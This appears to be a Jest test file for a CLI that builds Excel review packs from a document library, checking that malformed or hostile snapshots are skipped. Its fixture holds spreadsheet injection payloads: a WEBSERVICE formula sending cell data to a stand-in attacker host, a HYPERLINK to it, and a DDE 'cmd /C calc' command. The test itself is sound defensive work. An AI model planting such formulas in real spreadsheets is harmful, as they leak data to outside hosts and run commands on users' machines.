/**
 * Issue 15, library content: crafted snapshots and list items in a local library. A snapshot with formula
 * objects for amounts, one whose initiatives are not a list, a list item whose columns do not match its file,
 * and an area whose name ends in an apostrophe once clipped to a sheet name: each is one line and the other
 * areas are still consolidated and packed; no formula from a snapshot reaches the review pack.
 */
import ExcelJS from 'exceljs';
import path from 'node:path';
import { editListFields, libraryArgs, tempDir, useLibrary, withLibrary } from '../publish/helpers';
import { publishPlan, SCHEMA_BROKEN, type Craft } from '../publish/plans';
import { cli, type ConsolidateJson } from './helpers';
import { FRAME } from './librarySamples';

jest.setTimeout(180_000);

/** 30 characters, then an apostrophe at the 31st: clipped to a sheet name, it ends in one. */
const LONG = `Område ${'a'.repeat(23)}'s tjänster`;

withLibrary('hostile library content', () => {
  const lib = useLibrary();
  let dir: string;
  beforeAll(async () => {
    dir = tempDir('tjp-hostile-lib-');
    const publish = (area: string, craft?: Craft) => publishPlan(lib.client.library, dir, { area }, craft);
    await publish('Ekonomi');
    await publish(LONG);
    await publish('Formler', (s) => {
      const rows = s.initiatives as { development: unknown[]; name: unknown; comment: unknown }[];
      rows[0].development[0] = { formula: 'WEBSERVICE("https://angripare.example/?"&A1)', result: 1 };
      rows[0].name = { formula: 'HYPERLINK("https://angripare.example","Klicka")' };
      rows[1].comment = { formula: "cmd|' /C calc'!A0" };
    });
    await publish('Trasig', SCHEMA_BROKEN);
    const moved = await publish('Flyttad');
    // The list item now names a version whose file is not there.
    await editListFields(lib, moved.itemId, { Version: '9.9' });
  });

  const skippedLines = (stderr: string) => stderr.split('\n').filter((l) => l.trim() !== '');

  it('consolidate --library leaves out the three unusable areas, one line each, and consolidates the others (exit 2)', async () => {
    const run = await cli(['consolidate', '--json', '--frame', FRAME, ...libraryArgs(lib), '--period', '2022–2024']);
    expect(run.code).toBe(2);
    const lines = skippedLines(run.stderr);
    expect(lines).toHaveLength(3);
    expect(lines.find((l) => l.includes('Formler 2022–2024 v1.0'))).toMatch(/ögonblicksbilden följer inte formatet \(fältet initiatives\.0\.name har fel form\); området hoppas över$/);
    expect(lines.find((l) => l.includes('Trasig 2022–2024 v1.0'))).toMatch(/fältet initiatives har fel form/);
    expect(lines.find((l) => l.includes('Flyttad 2022–2024 v9.9'))).toMatch(/kunde inte läsas \(404\); området hoppas över$/);
    expect(run.stderr).not.toMatch(/TypeError|^\s+at /m);
    const json = JSON.parse(run.stdout) as ConsolidateJson;
    expect(json.areas.map((a) => a.area).sort()).toEqual(['Ekonomi', LONG]);
  });

  it('pack writes the review pack for the usable areas, with sheet names Excel accepts and no formula from data (exit 2)', async () => {
    const out = path.join(dir, 'pf.xlsx');
    const run = await cli(['pack', ...libraryArgs(lib), '--period', '2022–2024', '--forum', 'PF', '--out', out]);
    expect(run.code).toBe(2);
    expect(skippedLines(run.stderr)).toHaveLength(3);
    expect(run.stdout).toContain('2 tjänsteområden');

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(['Översikt', 'Ekonomi', `Område ${'a'.repeat(23)}`]);
    const formulas: string[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => void (c.formula && formulas.push(c.formula))));
    expect(formulas.length).toBeGreaterThan(0);
    // The tool's own: the deviation per row and the totals row's SUBTOTALs.
    for (const f of formulas) expect(f).toMatch(/^(IF\(Oversikt\[\[#This Row\],\[Ram \d{4}\]\]="",""|SUBTOTAL\(109,)/);
  });

  it('pack --publish over another pack of that name, with areas left out: both said, and the exit code is the worse (2, not the conflict’s 1)', async () => {
    const args = ['pack', ...libraryArgs(lib), '--period', '2022–2024', '--forum', 'PF', '--publish', '--date', '2022-05-02'];
    expect((await cli(args)).code).toBe(2);
    // With the frame the pack is another document under the same name.
    const clash = await cli([...args, '--frame', FRAME]);
    expect(clash.stderr).toContain('Granskningsunderlag PF 2022-05-02.xlsx finns redan i biblioteket med annat innehåll');
    expect(skippedLines(clash.stderr).filter((l) => l.endsWith('området hoppas över'))).toHaveLength(3);
    expect(clash.code).toBe(2);
  });
});
